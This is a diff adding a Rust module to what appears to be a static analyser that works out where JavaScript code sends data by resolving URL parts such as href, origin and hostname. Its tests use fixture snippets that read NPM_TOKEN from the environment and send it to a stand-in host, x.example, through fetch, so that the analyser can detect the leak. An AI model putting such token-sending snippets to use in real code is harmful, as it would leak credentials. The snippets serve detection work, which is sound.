@@ -1,0 +1,103 @@
+//! Parts of addresses: `new URL(text)` is the text that it is made of, and its properties are pieces of that.
+
+use crate::value::{Object, Text, Value};
+
+/// A property of an address that its text tells: `url.href`, `url.origin`, `url.hostname`.
+pub(super) fn part_of(url: &Value, name: &str) -> Option<Value> {
+    if name == "href" {
+        return Some(url.clone());
+    }
+    let text = beginning(url)?;
+    let (start, end) = authority(&text.text)?;
+    let part = match name {
+        "origin" => &text.text[..end],
+        "host" => host(&text.text[start..end]),
+        "hostname" => host(&text.text[start..end]).split(':').next()?,
+        _ => return None,
+    };
+    Some(Value::text_from(part, text))
+}
+
+/// An address after some of its parts were set: which host it has, or another one altogether.
+///
+/// What was set beside the host does not change where it leads.
+pub(super) fn with_parts_set(url: Value, set: &Object) -> Value {
+    let last = |name: &str| {
+        let mut named = set.properties.iter().rev().filter(|property| property.name.as_deref() == Some(name));
+        named.next().map(|property| property.value.clone())
+    };
+    if let Some(href) = last("href") {
+        return href;
+    }
+    let Some(Value::Text(host)) = last("host").or_else(|| last("hostname")) else { return url };
+    let Some((start, end)) = beginning(&url).and_then(|text| authority(&text.text)) else { return url };
+    let moved =
+        |text: &Text| Value::text_from(format!("{}{}{}", &text.text[..start], host.text, &text.text[end..]), &host);
+    match &url {
+        Value::Text(text) => moved(text),
+        Value::Concat(parts) => {
+            let mut parts = parts.to_vec();
+            if let Value::Text(text) = &parts[0] {
+                parts[0] = moved(text);
+            }
+            Value::Concat(parts.into())
+        }
+        _ => url,
+    }
+}
+
+/// What an address is certain to begin with.
+fn beginning(url: &Value) -> Option<&Text> {
+    match url {
+        Value::Text(text) => Some(text),
+        // What comes behind may belong to the host, unless that has ended.
+        Value::Concat(parts) => match parts.first()? {
+            Value::Text(text) if authority(&text.text).is_some_and(|(_, end)| end < text.text.len()) => Some(text),
+            _ => None,
+        },
+        _ => None,
+    }
+}
+
+/// Where the user, host and port of an address stand.
+fn authority(url: &str) -> Option<(usize, usize)> {
+    let start = url.find("://")? + 3;
+    let end = url[start..].find(['/', '?', '#']).map_or(url.len(), |length| start + length);
+    (end > start).then_some((start, end))
+}
+
+/// The host and port without the user.
+fn host(authority: &str) -> &str {
+    authority.rsplit('@').next().unwrap_or(authority)
+}
+
+#[cfg(test)]
+mod tests {
+    use molehunt_model::Behaviour;
+
+    use crate::testing::extracted;
+
+    fn sent_to(code: &str) -> Vec<String> {
+        let code = format!("const text = process.env.NPM_TOKEN; {code}");
+        let facts = extracted(&code).facts;
+        let sent = facts.iter().filter_map(|fact| match &fact.behaviour {
+            Behaviour::SendData(sent) => Some(sent.destination.value.clone()),
+            _ => None,
+        });
+        sent.collect()
+    }
+
+    #[test]
+    fn an_address_is_what_its_parts_say() {
+        for code in [
+            "const u = new URL('https://x.example'); u.search = text; fetch(u)",
+            "const u = new URL('https://x.example'); u.search = text; fetch(u.href)",
+            "fetch(new URL('https://x.example/?' + text).href)",
+            "const u = new URL('https://x.example/a'); fetch(u.origin + '/?' + text)",
+            "const u = new URL('https://api.example/?' + text); u.hostname = 'x.example'; fetch(u)",
+            "const u = new URL('https://api.example/'); u.href = 'https://x.example/?' + text; fetch(u)",
+        ] {
+            assert_eq!(sent_to(code), ["x.example"], "{code}");
+        }
+    }
+}
